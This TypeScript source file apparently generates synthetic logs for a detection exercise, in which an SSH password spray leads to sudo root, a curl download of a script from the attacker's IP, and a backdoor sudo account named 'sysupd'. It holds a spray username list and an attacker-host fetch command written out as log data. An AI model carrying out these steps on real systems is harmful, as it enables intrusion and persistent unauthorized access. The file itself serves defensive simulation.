/**
 * Story 1, "ssh-spray": 203.0.113.45 sprays passwords over SSH at web-01 (exposed through the
 * legacy NAT rule on 198.51.100.10:22), gets in as `deploy`, becomes root with sudo, pulls a
 * script with curl and creates the backdoor account `sysupd` in group sudo. Seen in linux-syslog,
 * edgewall-fw (CEF) and zeek (conn, ssh, http). Times in stories.ts.
 */
import { linuxHost, PUBLIC_WEB_IP, STORY_IPS } from './entities.ts';
import { newFlow } from './flow.ts';
import {
  audit,
  logindNewSession,
  passwdChanged,
  sshAccepted,
  sshClosedPreauth,
  sshFailed,
  sshInvalidUser,
  sshSessionClosed,
  sshSessionOpened,
  sudo,
  useradd,
  usermodAddGroup,
} from './linux-lines.ts';
import { cef, trafficExt } from './perimeter.ts';
import type { Rng } from './random.ts';
import { clock, type DayWindow, MINUTE, SECOND } from './schedule.ts';
import { type BuiltStory, finish, storyStart } from './story-kit.ts';
import type { Pending } from './types.ts';
import { conn, http, ssh } from './zeek.ts';

export const SPRAY_USERS = [
  'admin',
  'root',
  'test',
  'deploy',
  'ubuntu',
  'oracle',
  'postgres',
  'git',
  'jenkins',
  'support',
  'backup',
  'akowalski',
  'ftp',
  'web',
  'www',
  'dev',
] as const;
const VALID = new Set(['root', 'deploy', 'backup', 'akowalski']);
const ROUNDS = 4;
const CLIENT = 'SSH-2.0-libssh2_1.11.0';

export function buildSshSpray(rng: Rng, window: DayWindow): BuiltStory {
  const web = linuxHost('web-01');
  const ip = STORY_IPS.sprayer;
  const t0 = storyStart(window, clock(2, 14, 7), 40 * MINUTE);
  const records: Pending[] = [];
  const sshFlow = (t: number, port: number) => newFlow(rng, t, ip, port, PUBLIC_WEB_IP, 22);
  const fw = (t: number, port: number) =>
    cef(
      t,
      'allow',
      trafficExt(
        {
          src: ip,
          spt: port,
          dst: PUBLIC_WEB_IP,
          dpt: 22,
          proto: 'TCP',
          rule: 'Legacy-SSH-web-01',
          inIf: 'wan1',
          outIf: 'dmz1',
          natDst: web.ip,
        },
        'allow',
      ),
    );

  // The spray: every user once per round, 20-30 s apart, fixed password per round.
  let t = t0;
  let lastFail = t0;
  for (let round = 0; round < ROUNDS; round++) {
    for (const user of SPRAY_USERS) {
      if (round === ROUNDS - 1 && user === 'deploy') continue; // succeeds below
      const pid = rng.int(20000, 60000);
      const port = rng.int(32768, 60999);
      const invalid = !VALID.has(user);
      const f = sshFlow(t, port);
      records.push(
        fw(t, port),
        conn(f, {
          service: 'ssh',
          duration: 2.4,
          origBytes: 1600,
          respBytes: 2100,
          state: 'SF',
          history: 'ShAdDaFf',
        }),
      );
      if (invalid) records.push(sshInvalidUser(t + SECOND, web.name, pid, user, ip, port));
      records.push(
        sshFailed(t + 2 * SECOND, web.name, pid, user, ip, port, invalid),
        ssh(t + 2 * SECOND, f, false, CLIENT),
        sshClosedPreauth(t + 3 * SECOND, web.name, pid, user, ip, port, invalid),
      );
      lastFail = t + 2 * SECOND;
      t += rng.int(20, 30) * SECOND;
    }
  }

  // Success as deploy, then a root shell, a download, and a new sudo-capable account.
  const win = t + 10 * SECOND;
  const pid = rng.int(20000, 60000);
  const port = rng.int(32768, 60999);
  const f = sshFlow(win, port);
  records.push(
    fw(win, port),
    conn(f, {
      service: 'ssh',
      duration: 412.7,
      origBytes: 9800,
      respBytes: 48000,
      state: 'SF',
      history: 'ShAdDaFf',
    }),
    sshAccepted(win + 2 * SECOND, web.name, pid, 'deploy', ip, port, 'password'),
    ssh(win + 2 * SECOND, f, true, CLIENT),
    sshSessionOpened(win + 2 * SECOND, web.name, pid, 'deploy'),
    logindNewSession(win + 2 * SECOND, web.name, 731, 'deploy'),
  );
  const root = win + 2 * MINUTE + 20 * SECOND;
  records.push(...sudo(root, web.name, 'deploy', 'pts/1', '/home/deploy', '/bin/bash'));

  const fetch = root + 40 * SECOND;
  const out = newFlow(rng, fetch, web.ip, rng.int(40000, 60000), ip, 80);
  records.push(
    audit(
      fetch,
      web.name,
      fetch + 412,
      88213,
      'EXECVE',
      `argc=5 a0="curl" a1="-fsSL" a2="http://${ip}/x.sh" a3="-o" a4="/tmp/.x.sh"`,
    ),
    cef(
      fetch,
      'allow',
      trafficExt(
        {
          src: web.ip,
          spt: out.sport,
          dst: ip,
          dpt: 80,
          proto: 'TCP',
          rule: 'DMZ-to-Internet',
          inIf: 'dmz1',
          outIf: 'wan1',
          bytesOut: 180,
          bytesIn: 4211,
          natSrc: PUBLIC_WEB_IP,
        },
        'allow',
      ),
    ),
    conn(out, {
      service: 'http',
      duration: 0.31,
      origBytes: 180,
      respBytes: 4211,
      state: 'SF',
      history: 'ShADadFf',
    }),
    http(fetch + 90, out, {
      method: 'GET',
      host: ip,
      uri: '/x.sh',
      userAgent: 'curl/8.5.0',
      status: 200,
      respLen: 3907,
    }),
  );
  const create = fetch + 55 * SECOND;
  records.push(
    ...useradd(create, web.name, 40112, 'sysupd', 1002, '/dev/pts/1'),
    ...usermodAddGroup(create + 20 * SECOND, web.name, 40120, 'sysupd', 'sudo'),
    passwdChanged(create + 38 * SECOND, web.name, 40127, 'sysupd'),
  );
  const leave = create + 2 * MINUTE + 35 * SECOND;
  records.push(sshSessionClosed(leave, web.name, pid, 'deploy'));

  const fwZeek = ['edgewall-fw', 'zeek'];
  return finish(
    {
      id: 'ssh-spray',
      title: 'SSH password spray, then a backdoor account on web-01',
      summary: `${ip} tries ${SPRAY_USERS.length} user names ${ROUNDS} times over SSH on web-01, logs in as deploy with a password, runs sudo /bin/bash, downloads /x.sh with curl and creates the user sysupd in group sudo.`,
      techniques: ['T1110.003', 'T1078.003', 'T1548.003', 'T1105', 'T1136.001'],
      hosts: [web.name],
      users: ['deploy', 'sysupd'],
      ips: [ip, PUBLIC_WEB_IP, web.ip],
      domains: [],
      steps: [
        {
          time: t0,
          what: `first SSH attempt from ${ip} (its Failed password line follows 2 s later)`,
          sources: ['linux-syslog', ...fwZeek],
        },
        { time: lastFail, what: `last failed SSH password from ${ip}`, sources: ['linux-syslog'] },
        {
          time: win + 2 * SECOND,
          what: `Accepted password for deploy from ${ip}`,
          sources: ['linux-syslog', ...fwZeek],
        },
        { time: root, what: 'sudo by deploy: COMMAND=/bin/bash', sources: ['linux-syslog'] },
        {
          time: fetch,
          what: `curl http://${ip}/x.sh (audit EXECVE, zeek http)`,
          sources: ['linux-syslog', ...fwZeek],
        },
        {
          time: create + SECOND,
          what: 'useradd sysupd (UID 1002), then added to group sudo',
          sources: ['linux-syslog'],
        },
      ],
    },
    records,
  );
}
